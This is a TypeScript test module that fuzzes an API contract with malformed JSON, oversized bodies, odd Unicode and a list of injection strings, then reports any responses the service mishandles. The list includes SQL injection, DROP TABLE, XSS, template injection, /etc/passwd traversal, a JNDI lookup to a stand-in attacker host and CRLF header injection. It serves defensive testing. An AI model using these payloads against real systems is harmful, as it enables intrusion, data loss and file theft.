import type { Contract, Operation } from '../contract/load';
import type { ApiRequest, HttpClient } from '../http/client';
import { ACCOUNT_PARAMETERS, sampleBody, sampleRequest, takesBody } from './sample-request';

/** Strings that have broken services before: injections of every kind. */
export const INJECTION_STRINGS: readonly string[] = [
  "' OR '1'='1' --",
  '"; DROP TABLE reports; --',
  '<script>alert(1)</script>',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.invalid/a}',
  '{"$where": "sleep(1000)"}',
  'line\r\nSet-Cookie: injected=1',
];

/** Text that is valid but unusual: other scripts, emoji, combining marks, invisible and reversed text. */
export const UNICODE_STRINGS: readonly string[] = [
  '詐騙電話 🚨📞',
  'مرحبا \u202eevil\u202c',
  'Z\u0351\u0352\u0353a\u0354\u0355l\u0356go',
  '\u200b\u200d\ufeff',
  '𝕳𝖊𝖑𝖑𝖔 \u{1f9d1}\u200d\u{1f4bb}',
  'nul\u0000byte',
];

/** One megabyte of JSON: far over what any request of the service needs. */
const OVERSIZED_BYTES = 1024 * 1024;

/** One hostile request, and what was hostile about it, for the failure message. */
export interface HostileRequest {
  readonly request: ApiRequest;
  readonly what: string;
}

/** Every hostile input the features name, and the requests it makes for one operation. */
export const HOSTILE_INPUTS = {
  'malformed JSON': (operation, request) =>
    takesBody(operation)
      ? [{ request: { ...withoutBody(request), rawBody: MALFORMED_JSON }, what: 'malformed JSON' }]
      : [],
  'an oversized body': (operation, request) =>
    takesBody(operation)
      ? [{ request: { ...withoutBody(request), rawBody: OVERSIZED_JSON }, what: 'a 1 MiB body' }]
      : [],
  'unicode text in every text field': (operation, request) =>
    inEveryField(operation, request, UNICODE_STRINGS),
  'injection strings in every text field': (operation, request) =>
    inEveryField(operation, request, INJECTION_STRINGS),
  'injection strings in every parameter': (operation, request) =>
    operation.parameters
      .filter((parameter) => parameter.in === 'path' || parameter.in === 'query')
      .filter((parameter) => !ACCOUNT_PARAMETERS.includes(parameter.name))
      .flatMap((parameter) =>
        INJECTION_STRINGS.map((text) => ({
          request:
            parameter.in === 'query'
              ? { ...request, query: { ...request.query, [parameter.name]: text } }
              : { ...request, path: replacePathParameter(operation, request, parameter.name, text) },
          what: `${parameter.name} = ${JSON.stringify(text)}`,
        })),
      ),
} satisfies Record<string, (operation: Operation, request: ApiRequest) => HostileRequest[]>;

const MALFORMED_JSON = '{"number": "+886912345678", "category": ';
const OVERSIZED_JSON = JSON.stringify({ filler: 'x'.repeat(OVERSIZED_BYTES) });

function inEveryField(operation: Operation, request: ApiRequest, texts: readonly string[]): HostileRequest[] {
  return texts.flatMap((text) =>
    oneStringReplaced(sampleBody(operation), text).map(({ field, body }) => ({
      request: { ...request, body },
      what: `${field} = ${JSON.stringify(text)}`,
    })),
  );
}

export type HostileInput = keyof typeof HOSTILE_INPUTS;

export interface HostileCall {
  readonly operation: Operation;
  readonly what: string;
  readonly status: number;
  readonly mediaType: string;
}

/**
 * Sends a hostile input to every operation of the contract it applies to, as `owner` with
 * `headers` (credentials), each request otherwise made from the contract's examples.
 */
export async function sendHostileInput(
  contract: Contract,
  http: HttpClient,
  input: HostileInput,
  owner: string,
  headers: Readonly<Record<string, string>>,
): Promise<HostileCall[]> {
  const calls: HostileCall[] = [];
  for (const operation of contract.operations) {
    const base = sampleRequest(operation, owner);
    for (const { request, what } of HOSTILE_INPUTS[input](operation, base)) {
      const response = await http.send({ ...request, headers: { ...request.headers, ...headers } });
      const mediaType = (response.headers['content-type'] ?? '').split(';')[0]?.trim() ?? '';
      calls.push({ operation, what, status: response.status, mediaType });
    }
  }
  if (calls.length === 0) throw new Error(`no operation of the contract takes ${input}: nothing was sent`);
  return calls;
}

/** The calls the service broke on, or answered with an error that is not a problem document. */
export function mishandled(calls: readonly HostileCall[], refusedOnly: boolean): string[] {
  return calls.flatMap(({ operation, what, status, mediaType }) => {
    const name = `${operation.operationId} (${operation.method} ${operation.pathTemplate}) with ${what}`;
    if (status >= 500) return [`${name} failed with ${status}`];
    if (refusedOnly && status < 400) return [`${name} accepted it (${status})`];
    if (status >= 400 && mediaType !== 'application/problem+json') {
      return [`${name} refused it (${status}) as ${mediaType || 'no content type'}, not a problem document`];
    }
    return [];
  });
}

function withoutBody(request: ApiRequest): ApiRequest {
  return { ...request, body: undefined };
}

/**
 * One copy of the JSON per string in it, each with that one string replaced by `text` and the
 * rest left valid: every field is reached, not only the first one validation looks at.
 */
export function oneStringReplaced(value: unknown, text: string, at = ''): { field: string; body: unknown }[] {
  if (typeof value === 'string') return [{ field: at || 'body', body: text }];
  if (Array.isArray(value)) {
    return value.flatMap((item, index) =>
      oneStringReplaced(item, text, `${at}[${index}]`).map(({ field, body }) => ({
        field,
        body: value.map((other: unknown, position) => (position === index ? body : other)),
      })),
    );
  }
  if (value !== null && typeof value === 'object') {
    return Object.entries(value).flatMap(([key, item]) =>
      oneStringReplaced(item, text, at ? `${at}.${key}` : key).map(({ field, body }) => ({
        field,
        body: { ...value, [key]: body },
      })),
    );
  }
  return [];
}

/** The request's path with one parameter's segment replaced by `text`. */
function replacePathParameter(operation: Operation, request: ApiRequest, name: string, text: string): string {
  const template = operation.pathTemplate.split('/');
  return request.path
    .split('/')
    .map((segment, index) => (template[index] === `{${name}}` ? encodeURIComponent(text) : segment))
    .join('/');
}
